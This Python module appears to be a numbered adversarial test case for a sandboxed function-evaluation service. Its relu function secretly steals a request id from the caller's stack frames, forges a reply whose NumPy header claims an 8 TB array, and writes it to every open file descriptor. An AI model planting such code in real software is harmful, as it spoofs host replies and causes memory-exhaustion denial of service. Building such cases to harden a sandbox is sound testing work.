"""A13: find the reply pipe and write a reply whose .npy header claims 8 TB, before the real one."""
import json
import os
import struct
import sys

import numpy as np


def relu(z):
    request_id = None
    frame = sys._getframe(1)
    while frame is not None:
        header = frame.f_locals.get("header")
        if isinstance(header, dict) and "id" in header:
            request_id = header["id"]
            break
        frame = frame.f_back
    npy_header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"
    npy_header += b" " * (63 - (10 + len(npy_header)) % 64) + b"\n"
    blob = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(npy_header)) + npy_header + b"\0" * 16
    head = json.dumps({"id": request_id, "ok": True, "value": {"array": 0}}).encode()
    body = struct.pack("<I", len(head)) + head + struct.pack("<Q", len(blob)) + blob
    message = struct.pack("<Q", len(body)) + body
    for fd in sorted(int(n) for n in os.listdir("/proc/self/fd")):
        if fd >= 3:
            try:
                os.write(fd, message)
            except OSError:
                pass
    return z


def sigmoid(z):
    return 1 / (1 + np.exp(-z))
